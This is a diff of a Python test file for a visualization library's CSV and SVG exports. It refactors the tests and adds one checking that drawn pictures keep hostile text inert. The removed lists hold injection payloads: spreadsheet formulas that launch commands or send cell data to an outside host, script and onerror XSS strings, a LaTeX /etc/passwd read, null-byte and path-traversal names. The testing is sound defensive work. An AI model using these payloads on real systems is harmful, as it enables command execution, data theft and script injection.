@@ -14,6 +14,7 @@ from xml.etree import ElementTree
 
 import pytest
 
+from tests.attacks.texts import FORMULAS, MARKUP
 from tests.viz_core.view.attention_groups import make_group
 from viz_core.view.components import COMPONENTS
 from viz_core.view.map_group import MapGroup
@@ -25,40 +26,19 @@ from viz_core.view.state import ViewState
 from viz_core.view.words import view_words
 
 pytestmark = pytest.mark.attack("exports")
-
-FORMULAS = (
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("https://elsewhere.example/?"&A1)',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+9)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    '=1+1","=2+2',
-    "=1\n=2",
-)
-MARKUP = (
-    "</script><script>alert(1)</script>",
-    "<!--<script>",
-    "]]>",
-    "</title><img src=x onerror=alert(1)>",
-    "\"'`${alert(1)}",
-    "{{ 7*7 }}{0}%s",
-    "$x^{$ \\frac \\input{/etc/passwd}",
-    "&lt;&#0;&amp",
-    "\u202e\u2028\u2029\ufeff",
-    "\"\"\"\n'''\\",
-    "/etc/passwd\0.png",
-    "../../../x",
-)
+needs_node = pytest.mark.skipif(shutil.which("node") is None, reason="no Node.js on this machine")
 
 
 def group(text: str) -> MapGroup:
     return make_group(2, 2, "self", query_tokens=(text, "b"), key_tokens=("a", text))
 
 
-@pytest.mark.skipif(shutil.which("node") is None, reason="no Node.js on this machine")
+def run(script: str) -> str:
+    """What a script says."""
+    return subprocess.run(["node", "-e", script], capture_output=True, check=True, timeout=60).stdout.decode()
+
+
+@needs_node
 @pytest.mark.parametrize("text", FORMULAS)
 def test_no_cell_of_a_table_is_a_formula(text: str) -> None:
     """The line that writes a cell, run by itself: what begins as a formula does is text, and one cell."""
@@ -66,8 +46,7 @@ def test_no_cell_of_a_table_is_a_formula(text: str) -> None:
     line = re.search(r"^const quote = .*$", code, flags=re.MULTILINE)
     assert line is not None
     script = f"{line[0]} process.stdout.write([{json.dumps(text)}, '-', 'cat'].map(quote).join(','))"
-    written = subprocess.run(["node", "-e", script], capture_output=True, check=True, timeout=60).stdout.decode()
-    (cells,) = csv.reader(io.StringIO(written, newline=""))
+    (cells,) = csv.reader(io.StringIO(run(script), newline=""))
     assert cells == [f"'{text}", "-", "cat"]
 
 
@@ -106,3 +85,32 @@ def test_a_figure_writes_it_as_text(text: str, tmp_path: Path) -> None:
     links = [value for element in elements for name, value in element.attrib.items() if name.endswith("href")]
     assert all(link.startswith(("#", "data:image/png;")) for link in links)
     assert not [name for element in elements for name in element.attrib if name.lower().startswith("on")]
+
+
+@pytest.fixture(scope="module")
+def drawn() -> dict[str, str]:
+    """Pictures as the browser's own code writes them, by the text that is drawn and told in them."""
+    files = [COMPONENTS / "shared" / "files.js", COMPONENTS / "attention_view" / "svg.js"]
+    code = "".join(re.sub(r"^import .*$|^export ", "", file.read_text(encoding="utf-8"), flags=re.M) for file in files)
+    draw = """
+      const drawn = TEXTS.map((text) => {
+        const context = Object.assign(new SvgContext(), { font: "12px serif", fillStyle: text });
+        context.fillText(text, 0, 0);
+        return [text, context.document(9, 9, { title: text, lines: [text], link: text })];
+      });
+      process.stdout.write(JSON.stringify(Object.fromEntries(drawn)));
+    """
+    made: dict[str, str] = json.loads(run(code + draw.replace("TEXTS", json.dumps([*MARKUP, *FORMULAS]))))
+    return made
+
+
+@needs_node
+@pytest.mark.parametrize("text", [*MARKUP, *FORMULAS])
+def test_a_picture_of_a_view_writes_it_as_text(text: str, drawn: dict[str, str]) -> None:
+    root = ElementTree.fromstring(drawn[text])
+    assert {element.tag.partition("}")[2] for element in root.iter()} == {
+        *("svg", "title", "desc", "text", "metadata"),
+        *("RDF", "Description", "description", "source", "creator"),
+    }
+    (label,) = root.findall("{http://www.w3.org/2000/svg}text")
+    assert label.text == text.replace("\0", "\ufffd").replace("\r", "\n")  # as XML is read
